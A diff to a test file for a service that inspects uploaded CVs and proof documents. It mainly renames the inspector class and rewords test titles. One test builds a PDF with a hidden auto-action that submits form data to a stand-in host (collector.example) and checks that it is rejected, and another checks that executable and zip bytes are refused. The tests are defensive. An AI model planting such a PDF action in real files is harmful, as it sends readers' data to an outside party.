@@ -1,10 +1,10 @@
 import { documentLimits } from '@prentice/contract';
 import { strToU8, zipSync } from 'fflate';
 import { describe, expect, it } from 'vitest';
-import type { FileUse } from './content.checks.ts';
-import { Inspector } from './inspector.service.ts';
+import type { FileUse } from './content-checks.ts';
+import { DocumentInspector } from './inspector.service.ts';
 
-const inspector = new Inspector();
+const documentInspector = new DocumentInspector();
 const sentence = 'Experience with laboratory work, statistics and writing reports in two languages.';
 
 /** A small PDF with so many pages, each with one line of text. */
@@ -48,18 +48,18 @@ const docx = (text: string, more: Record<string, Uint8Array> = {}): Uint8Array =
   });
 
 const refusal = async (bytes: Uint8Array, use: FileUse = 'text'): Promise<string> =>
-  inspector.inspect(bytes, use).then(
+  documentInspector.inspect(bytes, use).then(
     () => 'accepted',
     (error: { code: string }) => error.code,
   );
 
 describe('inspection of documents', () => {
   it('accepts a PDF with text and counts its pages', async () => {
-    expect(await inspector.inspect(pdf(2, sentence))).toEqual({ mediaType: 'application/pdf', pages: 2 });
+    expect(await documentInspector.inspect(pdf(2, sentence))).toEqual({ mediaType: 'application/pdf', pages: 2 });
   });
   it('accepts DOCX and plain text', async () => {
-    expect(await inspector.inspect(docx(sentence))).toMatchObject({ pages: null });
-    expect(await inspector.inspect(strToU8(sentence))).toEqual({ mediaType: 'text/plain', pages: null });
+    expect(await documentInspector.inspect(docx(sentence))).toMatchObject({ pages: null });
+    expect(await documentInspector.inspect(strToU8(sentence))).toEqual({ mediaType: 'text/plain', pages: null });
   });
   it('refuses more than ten pages', async () => {
     expect(await refusal(pdf(documentLimits.cvPages + 1, sentence))).toBe('FILE_TOO_LONG');
@@ -67,7 +67,7 @@ describe('inspection of documents', () => {
   it('refuses a PDF without text, which is a scan', async () => {
     expect(await refusal(pdf(1, ''))).toBe('FILE_NO_TEXT');
   });
-  it('takes a proof that is a scan or long, as registers are, and nothing that only looks like one', async () => {
+  it('accepts scanned and long proofs, and refuses files that only look like one', async () => {
     expect(await refusal(pdf(1, ''), 'proof')).toBe('accepted');
     expect(await refusal(pdf(documentLimits.cvPages + 5, ''), 'proof')).toBe('accepted');
     expect(await refusal(strToU8(sentence), 'proof')).toBe('FILE_TYPE');
@@ -82,7 +82,7 @@ describe('inspection of documents', () => {
     const sends = '/AA << /WC << /S /SubmitForm /F (http://collector.example) >> >>';
     expect(await refusal(pdf(1, sentence, sends))).toBe('FILE_REJECTED');
   });
-  it('refuses what is no document, whatever it is called', async () => {
+  it('refuses files that are not documents, whatever their name', async () => {
     expect(await refusal(Buffer.from([0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0]))).toBe('FILE_TYPE');
     expect(await refusal(zipSync({ 'a.txt': strToU8('not a document') }))).toBe('FILE_TYPE');
   });
@@ -148,9 +148,9 @@ describe('inspection of documents', () => {
     for (const same of [joined(strToU8('\r\n '), good), joined(good, strToU8('\n')), joined(good, empty)])
       expect(await refusal(same)).toBe('accepted');
   });
-  it('reads what a PDF and a DOCX say', async () => {
+  it('extracts the text of a PDF and a DOCX', async () => {
     const skill = { kind: 'skill', quote: 'Skills: Python', id: 'python', label: 'Python', matched: 'Python' };
-    expect((await inspector.read(pdf(1, 'Skills: Python'))).findings).toEqual([skill]);
-    expect((await inspector.read(docx('Skills: Python'))).findings).toEqual([skill]);
+    expect((await documentInspector.read(pdf(1, 'Skills: Python'))).findings).toEqual([skill]);
+    expect((await documentInspector.read(docx('Skills: Python'))).findings).toEqual([skill]);
   });
 });
